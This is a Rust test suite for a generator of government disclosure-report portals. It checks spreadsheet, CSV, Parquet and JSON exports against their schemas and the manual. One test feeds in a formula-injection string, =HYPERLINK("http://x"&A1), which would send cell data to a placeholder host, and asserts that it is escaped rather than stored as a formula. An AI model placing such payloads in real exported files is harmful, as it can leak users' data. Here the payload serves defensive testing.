//! Data files: what they hold is what the reports say.

use crate::harness::{Folder, OFFICE, good_site, load, output, site, statistics, statistics_of, workbook};
use gongkai::base::{Cell, SitePath, Value};
use gongkai::form::Form;
use gongkai::import;
use gongkai::source::{DiskSource, MemorySource, Source};
use sha2::{Digest as _, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

/// A text as a TOML string.
fn quoted(text: &str) -> String {
    toml::Value::from(text).to_string()
}

/// The example portal with the reports of some years only.
fn example(years: &[&str]) -> MemorySource {
    let disk = DiskSource::open(Path::new(env!("CARGO_MANIFEST_DIR"))).unwrap();
    let mut memory = MemorySource::default();
    for path in disk.scan().files.keys() {
        let name = path.as_str().rsplit('/').next().unwrap();
        let stem = name.split('.').next().unwrap();
        let is_year = stem.len() == 4 && stem.bytes().all(|byte| byte.is_ascii_digit());
        if !is_year || years.contains(&stem) {
            memory.write(path.as_str(), disk.read(path).unwrap());
        }
    }
    memory
}

fn shown(form: &Form, index: usize, cell: Cell) -> String {
    match cell.value() {
        Value::Number(number) => {
            let unit = cell.unit().map(|unit| form.cells[index].units[unit].to_string());
            format!("{number}{}", unit.unwrap_or_default())
        }
        Value::BelowOne => "<1".to_owned(),
        Value::None(state) => state.word().to_owned(),
    }
}

#[test]
fn a_workbook_is_a_report_that_can_be_imported() {
    let mut compared = 0;
    for year in ["2020", "2021", "2024"] {
        let source = example(&[year]);
        let state = load(&source);
        let portal = state.portal();
        let files = output(&source);
        let forms: Vec<&Form> = portal.forms.iter().map(|(_, form)| form).collect();
        for (_, report) in portal.reports.iter() {
            let office = &portal.offices[report.office];
            let route = format!("{}/data.xlsx", office.path);
            let read =
                import::read("data.xlsx", &files[&route], &forms, &import::Options::default()).unwrap();
            let form = portal.form_of(report).unwrap();
            assert_eq!(read.form_id, form.id, "{route} {year}");
            assert_eq!(read.year, Some(report.period.number()), "{route}");
            assert_eq!(read.office.as_deref(), Some(portal.name_in(office, report.period)), "{route}");
            let (_, statistics) = report.statistics.as_ref().unwrap();
            for (index, cell) in statistics.cells.iter().enumerate() {
                let (found, wanted) = (shown(form, index, read.cells.get(index)), shown(form, index, cell));
                // A spreadsheet has no zeros behind the last digit but by its format, which import does not read.
                let same = found == wanted || found == wanted.trim_end_matches('0').trim_end_matches('.');
                assert!(same, "{route} {year} {}: {found} instead of {wanted}", form.cells[index].id);
                compared += 1;
            }
        }
    }
    assert!(compared > 9_000, "only {compared} cells were compared");
}

#[test]
fn every_part_of_a_workbook_is_xml_and_none_is_a_formula() {
    let evil = "=HYPERLINK(\"http://x\"&A1)<b>&\u{1}_x0041_";
    let mut source = site([("content/yi/region.toml", "name = \"乙区\"\n")]);
    source.write("content/yi/jia/office.toml", format!("name = {}\n", quoted(evil)));
    let record = format!("index_no = {}\nsource = {}\n", quoted(evil), quoted(evil));
    let notes = format!("[notes]\nX-CARRY = {}\n", quoted(evil));
    source.write("content/yi/jia/2024.toml", format!("{record}{}{notes}", statistics()));
    let files = output(&source);
    let mut seen = 0;
    for (route, bytes) in files.iter().filter(|(route, _)| route.ends_with(".xlsx")) {
        for (name, text) in workbook(bytes) {
            let mut reader = quick_xml::Reader::from_str(&text);
            loop {
                match reader.read_event().unwrap_or_else(|error| panic!("{route} {name}: {error}")) {
                    quick_xml::events::Event::Eof => break,
                    quick_xml::events::Event::Start(tag) => {
                        assert_ne!(tag.name().as_ref(), "f", "{route} {name} holds a formula");
                    }
                    _ => {}
                }
            }
            assert!(!text.contains('\u{1}') && !text.contains("<b>&"), "{route} {name}");
            seen += text.matches("=HYPERLINK(&quot;http://x&quot;&amp;A1)&lt;b&gt;&amp;").count();
            assert!(!text.contains("&amp;_x0041_"), "{route} {name}");
        }
    }
    assert!(seen >= 6, "the text is in no workbook: {seen}");
}

#[test]
fn numbers_keep_their_places_and_their_digits() {
    let mut text = statistics_of("3").replacen("fee = \"3\"", "fee = \"1.10\"", 1);
    text = text.replacen("lic = 3", "lic = 9223372036854775807", 1);
    text = text.replacen("pen = 3", "pen = \"withheld\"", 1);
    text = text.replacen("coe = 3", "coe = -5", 1);
    let source = site([("content/yi/jia/office.toml", OFFICE), ("content/yi/jia/2024.toml", &text)]);
    let files = output(&source);
    for (route, sheet) in [("yi/jia/data.xlsx", "sheet2"), ("years/2024/data.xlsx", "sheet1")] {
        let xml = &workbook(&files[route])[&format!("xl/worksheets/{sheet}.xml")];
        assert!(xml.contains("<v>1.10</v>") && xml.contains("<v>-5</v>"), "{route}");
        assert!(
            xml.contains("<t>9223372036854775807</t>"),
            "{route}: a number of 19 digits would be rounded"
        );
        assert!(xml.contains("<t>不公开</t>"), "{route}");
    }
}

#[test]
fn workbooks_can_be_switched_off_and_stay_the_same() {
    let source = example(&["2024"]);
    let (first, second) = (output(&source), output(&source));
    let is_book = |route: &String| route.ends_with(".xlsx");
    assert!(first.keys().any(is_book));
    assert_eq!(first, second);
    let mut source = source;
    source.write("site.toml", "[site]\ntitle = \"例\"\n[output]\nxlsx = false\n");
    let files = output(&source);
    assert!(!files.keys().any(is_book));
    let page = String::from_utf8(files["years/2024/index.html"].clone()).unwrap();
    assert!(!page.contains("xlsx") && page.contains("data.csv"));
}

/// Closes every object that lists its keys, so that a key without a word in the schema is a fault.
fn closed(schema: &mut serde_json::Value) {
    if let Some(object) = schema.as_object_mut() {
        if object.contains_key("properties") && !object.contains_key("additionalProperties") {
            object.insert("additionalProperties".to_owned(), false.into());
        }
        object.values_mut().for_each(closed);
    } else if let Some(items) = schema.as_array_mut() {
        items.iter_mut().for_each(closed);
    }
}

#[test]
fn every_json_file_fits_its_schema() {
    let mut source = example(&["2019", "2020", "2021", "2022", "2023", "2024"]);
    let site = String::from_utf8(source.read(&SitePath::new("site.toml")).unwrap()).unwrap();
    let site = site.replacen(
        "[site]",
        "[site]\nbase_url = \"https://www.example.gov.cn/x/\"\n\
         license = { name = \"CC-BY-4.0\", url = \"https://creativecommons.org/licenses/by/4.0/\" }",
        1,
    );
    source.write("site.toml", site);
    let files = output(&source);
    let mut validators = BTreeMap::new();
    for (route, bytes) in files.iter().filter(|(route, _)| route.starts_with("data/schemas/")) {
        let mut schema: serde_json::Value = serde_json::from_slice(bytes).unwrap();
        let id = schema["$id"].as_str().unwrap().replace("urn:gongkai:", "").replace(':', "-");
        assert_eq!(*route, format!("data/schemas/{id}.json"));
        closed(&mut schema);
        validators.insert(id, (jsonschema::draft202012::new(&schema).unwrap(), 0));
    }
    for (route, bytes) in files.iter().filter(|(route, _)| route.ends_with(".json")) {
        if route.starts_with("data/schemas/") {
            continue;
        }
        let data: serde_json::Value = serde_json::from_slice(bytes).unwrap();
        let kind = match data["schema"].as_str() {
            Some(kind) => kind.replace("gongkai/", "").replace('/', "-"),
            None => "datapackage-1".to_owned(),
        };
        let (validator, count) =
            validators.get_mut(&kind).unwrap_or_else(|| panic!("{route}: no schema {kind}"));
        let faults: Vec<String> = validator
            .iter_errors(&data)
            .take(3)
            .map(|fault| format!("{} {fault}", fault.instance_path()))
            .collect();
        assert_eq!(faults, Vec::<String>::new(), "{route}");
        *count += 1;
    }
    let counts: BTreeMap<&str, usize> = validators.iter().map(|(id, (_, count))| (&**id, *count)).collect();
    for (id, least) in
        [("report-1", 90), ("office-1", 15), ("year-1", 6), ("region-1", 3), ("indicator-1", 50)]
    {
        assert!(counts[id] >= least, "{id}: only {} files", counts[id]);
    }
    assert_eq!((counts["datapackage-1"], counts.len()), (1, 6));
}

/// A table of the package: its heads and its lines.
fn table(files: &BTreeMap<String, Vec<u8>>, name: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = &files[&format!("data/{name}")];
    assert!(!bytes.starts_with(b"\xef\xbb\xbf"), "{name} begins with a mark");
    let mut reader = csv::Reader::from_reader(&bytes[..]);
    let texts = |record: &csv::StringRecord| record.iter().map(str::to_owned).collect::<Vec<_>>();
    let heads = texts(reader.headers().unwrap());
    (heads, reader.records().map(|record| texts(&record.unwrap())).collect())
}

/// The rows of the Parquet file: office, year, form, cell, value in millionths, state, unit.
type CellRow = (String, i32, String, String, Option<i64>, Option<String>, Option<String>);

fn parquet_rows(bytes: &[u8]) -> Vec<CellRow> {
    use parquet::file::reader::{FileReader, SerializedFileReader};
    use parquet::record::Field;
    let reader = SerializedFileReader::new(bytes::Bytes::copy_from_slice(bytes)).unwrap();
    assert_eq!(reader.metadata().file_metadata().created_by(), Some("gongkai"));
    let text = |field: &Field| match field {
        Field::Str(text) => Some(text.clone()),
        Field::Null => None,
        other => panic!("{other:?} is no text"),
    };
    let rows = reader.get_row_iter(None).unwrap().map(|row| {
        let row = row.unwrap();
        let fields: Vec<&Field> = row.get_column_iter().map(|(_, field)| field).collect();
        let Field::Int(year) = fields[1] else { panic!("{:?} is no year", fields[1]) };
        let value = match fields[4] {
            Field::Decimal(decimal) => {
                assert_eq!((decimal.precision(), decimal.scale()), (18, 6));
                Some(i64::from_be_bytes(decimal.data().try_into().unwrap()))
            }
            Field::Null => None,
            other => panic!("{other:?} is no decimal"),
        };
        let [office, form, cell] = [0, 2, 3].map(|at| text(fields[at]).unwrap());
        (office, *year, form, cell, value, text(fields[5]), text(fields[6]))
    });
    rows.collect()
}

#[test]
fn the_package_tells_the_truth_about_its_files() {
    let files = output(&example(&["2019", "2020", "2021", "2022", "2023", "2024"]));
    let package: serde_json::Value = serde_json::from_slice(&files["data/datapackage.json"]).unwrap();
    let page = String::from_utf8(files["data/index.html"].clone()).unwrap();
    let mut tables: BTreeMap<String, (Vec<String>, Vec<Vec<String>>)> = BTreeMap::new();
    for resource in package["resources"].as_array().unwrap() {
        let path = resource["path"].as_str().unwrap();
        let bytes = &files[&format!("data/{path}")];
        let hash: String = Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(resource["bytes"], bytes.len(), "{path}");
        assert_eq!(resource["hash"], format!("sha256:{hash}"), "{path}");
        assert!(page.contains(&hash) && page.contains(&format!("href=\"{path}\"")), "{path}");
        let fields: Vec<&str> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        let (heads, rows) = if path.ends_with(".parquet") {
            let rows = parquet_rows(bytes).into_iter();
            let rows = rows.map(|(office, year, form, cell, ..)| vec![office, year.to_string(), form, cell]);
            (fields.iter().take(4).map(|field| (*field).to_owned()).collect(), rows.collect::<Vec<_>>())
        } else {
            let (heads, rows) = table(&files, path);
            assert_eq!(heads, fields, "{path}");
            (heads, rows)
        };
        assert_eq!(resource["rows"], rows.len(), "{path}");
        tables.insert(resource["name"].as_str().unwrap().to_owned(), (heads, rows));
    }
    // Keys are unique, and what refers to another table finds its row there.
    let keys = |name: &str, fields: &serde_json::Value| -> Vec<Vec<String>> {
        let (heads, rows) = &tables[name];
        let places = fields.as_array().unwrap().iter();
        let places: Vec<usize> = places
            .map(|field| heads.iter().position(|head| head == field.as_str().unwrap()).unwrap())
            .collect();
        rows.iter().map(|row| places.iter().map(|&place| row[place].clone()).collect()).collect()
    };
    let mut links = 0;
    for resource in package["resources"].as_array().unwrap() {
        let name = resource["name"].as_str().unwrap();
        let schema = &resource["schema"];
        let own = keys(name, &schema["primaryKey"]);
        assert_eq!(own.iter().collect::<BTreeSet<_>>().len(), own.len(), "{name}: a key comes twice");
        for link in schema["foreignKeys"].as_array().into_iter().flatten() {
            let target = link["reference"]["resource"].as_str().unwrap();
            let target = if target.is_empty() { name } else { target };
            let theirs: BTreeSet<_> = keys(target, &link["reference"]["fields"]).into_iter().collect();
            for key in
                keys(name, &link["fields"]).iter().filter(|key| key.iter().any(|part| !part.is_empty()))
            {
                assert!(theirs.contains(key), "{name} refers to {key:?}, which is not in {target}");
                links += 1;
            }
        }
    }
    assert!(links > 40_000, "only {links} references");
}

#[test]
fn the_parquet_file_holds_every_cell_exactly() {
    let mut source = example(&["2019", "2020", "2021", "2022", "2023", "2024"]);
    let mut text = statistics_of("3").replacen("fee = \"3\"", "fee = \"72701.257800\"", 1);
    text = text.replacen("lic = 3", "lic = 9223372036854775807", 1);
    text = text.replacen("pen = 3", "pen = 999999999999", 1);
    text = text.replacen("coe = 3", "coe = -5", 1);
    source.write("content/yunxiu/zhengfu/2018.toml", format!("form = \"cn-xxgk-2021\"\n{text}"));
    let state = load(&source);
    let portal = state.portal();
    let files = output(&source);
    let rows = parquet_rows(&files["data/cells.parquet"]);
    let mut expected: Vec<CellRow> = Vec::new();
    for (_, report) in portal.reports.iter() {
        let form = portal.form_of(report).unwrap();
        let (_, statistics) = report.statistics.as_ref().unwrap();
        for (cell, info) in statistics.cells.iter().zip(&form.cells) {
            let (value, word) = match cell.value() {
                Value::Number(number) if number.scaled().abs() < 10_i128.pow(18) => {
                    (Some(i64::try_from(number.scaled()).unwrap()), None)
                }
                Value::Number(_) => (None, Some("large".to_owned())),
                Value::BelowOne => (None, Some("below".to_owned())),
                Value::None(state) => (None, Some(state.word().to_owned())),
            };
            expected.push((
                portal.offices[report.office].path.to_string(),
                i32::from(report.period.number()),
                form.id.to_string(),
                info.id.to_string(),
                value,
                word,
                cell.unit().map(|unit| info.units[unit].to_string()),
            ));
        }
    }
    assert_eq!(rows.len(), expected.len());
    for (row, wanted) in rows.iter().zip(&expected) {
        assert_eq!(row, wanted);
    }
    let values: Vec<i64> = rows.iter().filter_map(|row| row.4).collect();
    for value in [72_701_257_800, 999_999_999_999_000_000, -5_000_000] {
        assert!(values.contains(&value), "{value}");
    }
    for word in ["large", "na", "blank"] {
        assert!(rows.iter().any(|row| row.5.as_deref() == Some(word)), "{word}");
    }
    assert!(rows.iter().any(|row| row.6.as_deref() == Some("万元")));
    let mut sorted = rows.iter().map(|row| (&row.0, row.1)).collect::<Vec<_>>();
    sorted.dedup();
    assert!(sorted.is_sorted(), "by office and year");
}

#[test]
fn a_package_can_be_switched_off_and_needs_no_report() {
    let none = site([("content/yi/jia/office.toml", OFFICE)]);
    let files = output(&none);
    assert_eq!(parquet_rows(&files["data/cells.parquet"]), []);
    assert!(String::from_utf8(files["data/index.html"].clone()).unwrap().contains("未注明"));
    let mut off = none;
    off.write("site.toml", "[site]\ntitle = \"例\"\n[output]\npackage = false\n");
    assert!(!output(&off).keys().any(|route| route.starts_with("data/")));
}

#[test]
fn region_and_indicator_files_say_the_same_in_every_format() {
    let files = output(&example(&["2021", "2022", "2023", "2024"]));
    let mut compared = 0;
    for route in files.keys().filter(|route| route.starts_with("indicators/") && route.ends_with("data.json"))
    {
        let data: serde_json::Value = serde_json::from_slice(&files[route]).unwrap();
        let csv = &files[&route.replace(".json", ".csv")];
        assert!(csv.starts_with(b"\xef\xbb\xbf"), "{route}: spreadsheets need the mark");
        let mut reader = csv::Reader::from_reader(&csv[3..]);
        let years: Vec<&str> =
            data["periods"].as_array().unwrap().iter().map(|p| p.as_str().unwrap()).collect();
        assert_eq!(reader.headers().unwrap().iter().skip(3).collect::<Vec<_>>(), years, "{route}");
        let id = data["id"].as_str().unwrap();
        for (office, line) in data["offices"].as_array().unwrap().iter().zip(reader.records()) {
            let line = line.unwrap();
            assert_eq!(office["path"], line[1]);
            for ((year, value), printed) in
                years.iter().zip(office["values"].as_array().unwrap()).zip(line.iter().skip(3))
            {
                assert_eq!(value.as_str().unwrap_or_default(), printed, "{route} {year}");
                // The report itself says the same, where the indicator is one of its form.
                let report = format!("{}/{year}/data.json", &line[1]);
                let Some(report) = files.get(&report) else { continue };
                let report: serde_json::Value = serde_json::from_slice(report).unwrap();
                if let Some(own) = report["indicators"].get(id) {
                    assert_eq!(own, value, "{route} {} {year}", &line[1]);
                    compared += 1;
                }
            }
        }
    }
    assert!(compared > 3_000, "only {compared} values");
}

#[test]
fn long_files_are_written_like_all_others() {
    let folder = Folder::with(&good_site());
    folder.build().ended(0);
    let before = folder.tree("out");
    assert!(before.contains_key("data/cells.parquet"));
    assert!(!before.keys().any(|name| name.contains("gongkai-part")), "{:?}", before.keys());
    let run = folder.build().ended(0);
    assert!(run.out.contains("新写 0"), "{}", run.out);
    folder.write("out/data/reports.csv", "by hand");
    let run = folder.build().ended(0);
    assert!(run.err.contains("1 个文件被人改动过"), "{}", run.err);
    assert_eq!(folder.tree("out"), before);
}

#[test]
#[cfg(target_os = "linux")]
fn a_disk_that_is_full_ends_a_long_file_and_keeps_the_old_one() {
    let folder = Folder::with(&good_site());
    folder.build().ended(0);
    let before = std::fs::read(folder.path("out/data/reports.csv")).unwrap();
    let part = folder.path("out/data/reports.csv.gongkai-part");
    std::os::unix::fs::symlink("/dev/full", &part).unwrap();
    folder.write("site/content/yi/jia/2024.toml", format!("index_no = \"1\"\n{}", statistics()));
    let run = folder.build().ended(3);
    assert!(run.err.contains("reports.csv") && run.err.contains("磁盘已满"), "{}", run.err);
    assert_eq!(std::fs::read(folder.path("out/data/reports.csv")).unwrap(), before);
    assert!(!part.exists());
    folder.build().ended(0);
    assert_ne!(std::fs::read(folder.path("out/data/reports.csv")).unwrap(), before);
}

/// The addresses that the manual promises, as patterns: a part in angle brackets stands for a year where it says so, and
/// else for any path.
fn promised(manual: &str) -> Vec<Vec<String>> {
    let rows = manual.lines().filter_map(|line| line.strip_prefix("| `")?.split(" | ").next());
    let texts =
        rows.flat_map(|row| row.split('`').step_by(2).flat_map(|text| text.split(", ")).collect::<Vec<_>>());
    let spread = |text: &str| match text.split_once('{') {
        Some((before, rest)) => {
            let (choices, after) = rest.split_once('}').unwrap();
            choices.split(',').map(|choice| format!("{before}{choice}{after}")).collect()
        }
        None => vec![text.to_owned()],
    };
    texts.flat_map(spread).map(|text| text.split('/').map(str::to_owned).collect()).collect()
}

fn fits(pattern: &[String], parts: &[&str]) -> bool {
    match (pattern, parts) {
        ([], []) => true,
        ([last], ["index.html"]) if last.is_empty() => true,
        ([head, rest @ ..], [part, others @ ..]) => match head.as_str() {
            "<year>" => part.len() == 4 && part.bytes().all(|b| b.is_ascii_digit()) && fits(rest, others),
            "<office>" | "<region>" => (1..=parts.len()).any(|taken| {
                parts.get(..taken).is_some_and(|path| path.first() == Some(&"yunxiu"))
                    && fits(rest, parts.get(taken..).unwrap_or_default())
            }),
            "<id>" | "<form>" => fits(rest, others),
            "<kind>-<version>.json" => part.ends_with("-1.json") && rest.is_empty() && others.is_empty(),
            "*.js" => part.ends_with(".js") && others.is_empty(),
            "*" => others.is_empty(),
            text => text == *part && fits(rest, others),
        },
        _ => false,
    }
}

#[test]
fn the_manual_names_every_address_and_no_other() {
    let mut source = example(&["2019", "2020", "2021", "2022", "2023", "2024"]);
    let site = String::from_utf8(source.read(&SitePath::new("site.toml")).unwrap()).unwrap();
    source
        .write("site.toml", site.replacen("[site]", "[site]\nbase_url = \"https://www.example.gov.cn/\"", 1));
    let files = output(&source);
    let manual = include_str!("../../docs/api.md");
    let table = manual.split("## What stays").next().unwrap();
    let mut patterns: Vec<(Vec<String>, usize)> =
        promised(table).into_iter().map(|pattern| (pattern, 0)).collect();
    // Tables of the package are named without their folder, after the first.
    for (pattern, _) in &mut patterns {
        let is_file = |end: &str| pattern.len() == 1 && pattern[0].ends_with(end);
        if is_file(".csv") || is_file(".parquet") {
            pattern.insert(0, "data".to_owned());
        }
    }
    for route in files.keys().filter(|route| *route != "index.html") {
        let parts: Vec<&str> = route.split('/').collect();
        let mut found = false;
        for (pattern, count) in &mut patterns {
            if fits(pattern, &parts) {
                *count += 1;
                found = true;
            }
        }
        assert!(found, "docs/api.md does not name {route}");
    }
    for (pattern, count) in patterns {
        assert!(count > 0, "docs/api.md names {}, which is not there", pattern.join("/"));
    }
}
